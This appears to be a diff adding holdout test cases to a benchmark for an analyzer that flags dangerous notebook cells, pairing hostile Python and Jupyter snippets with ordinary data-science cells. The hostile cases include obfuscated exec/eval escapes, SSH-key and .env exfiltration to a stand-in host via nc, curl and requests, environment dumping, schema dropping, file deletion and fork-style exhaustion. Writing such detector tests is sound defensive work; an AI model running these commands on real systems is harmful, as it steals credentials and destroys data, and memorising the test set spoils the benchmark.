@@ -395,3 +395,93 @@ ORDINARY: tuple[Case, ...] = (
         "i = 0\nwhile True:\n    i += 1\n    if i > 10:\n        break",
     ),
 )
+
+
+# Written after the analyzer's checks were done, to see how it fares on attacks it was
+# not shaped around (benchmarks/README.md gives the first figure, before any fix).
+HOLDOUT: tuple[Case, ...] = (
+    *_cases(
+        "holdout",
+        "getattr(getattr(__import__('builtins'), 'ex' + 'ec'), '__call__')('import os')",
+        "import subprocess as s\nfrom functools import reduce\n"
+        "reduce(lambda a, c: s.call(c, shell=True), ['id'], 0)",
+        "eval(compile('import os\\nos.system(\"id\")', 'f', 'exec'))",
+        "import importlib\nm = importlib.import_module('os')\nm.popen('id').read()",
+        "exec(open('/tmp/x.py').read())",
+        "import ctypes\nctypes.CDLL(None).system(b'id')",
+        "__import__('subprocess').Popen(['sh', '-c', 'id'])",
+        "import os as o\nd = o.__dict__\nd['sys' 'tem']('id')",
+        "type('X', (), {'__del__': lambda s: __import__('os').system('id')})()",
+        "from os import environ as e\nprint(dict(e))",
+        "import os\nprint({**os.environ})",
+        "print(__import__('os').environ)",
+        "import requests as r\nr.get('https://x.example/' + open('.env').read())",
+        "df.to_csv('~/exfil.csv')",
+        "%%bash\ncat ~/.ssh/id_rsa | nc x.example 4444",
+        "!curl -F f=@data.csv https://x.example",
+        "get_ipython().run_cell_magic('writefile', 'evil.py', 'import os\\nos.system(\"id\")')",
+        "get_ipython().ev(\"__import__('os').system('id')\")",
+        "globals()['__builtins__'].eval(\"__import__('os').system('id')\")",
+        "from sqlalchemy import text\nwith engine.begin() as c:\n"
+        "    c.execute(text('DROP SCHEMA public CASCADE'))",
+        "import os\n[os.remove(f) for f in os.listdir('.')]",
+        "a = 'x'\nfor _ in range(40):\n    a += a",
+        "x = [[0] * 100000 for _ in range(100000)]",
+        "import threading\nwhile True:\n    threading.Thread(target=lambda: None).start()",
+        "from IPython.display import display, HTML\n"
+        "display(HTML('<iframe src=\"http://localhost:8888/lab\"></iframe>'))",
+        "get_ipython().display_pub.publish({'application/javascript': 'alert(1)'})",
+        "import os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'\nos.system('ls')",
+        "import sys\nsys.path.insert(0, '/tmp')\nimport payload",
+        "__import__('os').execl('/bin/sh', 'sh', '-c', 'id')",
+        "import importlib.util\nspec = importlib.util.spec_from_file_location('m', '/tmp/m.py')\n"
+        "m = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(m)",
+        "import http.client\nc = http.client.HTTPConnection('localhost', 8888)",
+        "import os\nos.environ['PYTHONSTARTUP'] = 'evil.py'",
+        "import builtins\nbuiltins.print = lambda *a, **k: None",
+        "import code\ncode.interact(local=globals())",
+        "import os\nos.umask(0)\nos.chmod('data', 0o777)",
+        "exec(''.join(map(chr, [105, 109, 112, 111, 114, 116, 32, 111, 115])))",
+        "import base64 as b\nexec(getattr(b, 'b64' + 'decode')('aW1wb3J0IG9z'))",
+        "from subprocess import *\ncall('id', shell=True)",
+        "import os\nos.truncate('data/sales.csv', 0)",
+        "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)",
+    ),
+)
+
+# Ordinary cells written at the same time as HOLDOUT, likewise not used to shape the checks.
+ORDINARY_HOLDOUT: tuple[Case, ...] = (
+    *_cases(
+        "ordinary_holdout",
+        "import sys\nsys.path.append('src')\nfrom features import build_features",
+        "df.to_sql('results', con, if_exists='append', index=False)",
+        "with open('out/report.html', 'w') as f:\n    f.write(summary.to_html())",
+        "from IPython.display import Markdown, display\n"
+        "display(Markdown(f'**{len(df):,} rows** loaded'))",
+        "import shutil\nshutil.copy('data/sales.csv', 'backup/sales.csv')",
+        "import pickle\nwith open('cache/model.pkl', 'wb') as f:\n    pickle.dump(model, f)",
+        "import os\nhome = os.path.expanduser('~')\nprint(os.cpu_count())",
+        "import re\npattern = re.compile(r'^(\\w+)@(\\w+)\\.com$')\n"
+        "df['domain'] = df['email'].str.extract(pattern)[1]",
+        "for name, group in df.groupby('region'):\n"
+        "    group.to_csv(f'out/region_{name}.csv', index=False)",
+        "import numpy as np\nweights = np.ones(len(df)) / len(df)\n"
+        "avg = np.average(df['price'], weights=weights)",
+        "import scipy.stats as st\nt, p = st.ttest_ind(a, b, equal_var=False)\nprint(t, p)",
+        "corr = df.select_dtypes('number').corr()\n"
+        "mask = np.triu(np.ones_like(corr, dtype=bool))\n"
+        "sns.heatmap(corr, mask=mask)",
+        "import json\nrecords = json.loads(df.head(3).to_json(orient='records'))\nrecords",
+        "from sklearn.metrics import classification_report, confusion_matrix\n"
+        "print(classification_report(y_test, clf.predict(X_test)))",
+        "%%time\nfeatures = pd.get_dummies(df[['region', 'channel']], drop_first=True)\n"
+        "features.shape",
+        "df['bucket'] = pd.cut(df['age'], bins=[0, 18, 35, 65, 120], labels=False)",
+        "rate = 1.0\nfor r in monthly_returns:\n    rate *= 1 + r\nprint(rate)",
+        "chunks = []\nfor chunk in pd.read_csv('data/big.csv', chunksize=100_000):\n"
+        "    chunks.append(chunk[chunk['ok']])\nbig = pd.concat(chunks)\nprint(len(big))",
+        "import datetime as dt\nstamp = dt.datetime.now().strftime('%Y%m%d')\n"
+        "df.to_parquet(f'out/snapshot_{stamp}.parquet')",
+        "import os\nos.environ['TF_CPP_MIN_LOG_LEVEL'] = '2'\nimport tensorflow as tf",
+    ),
+)
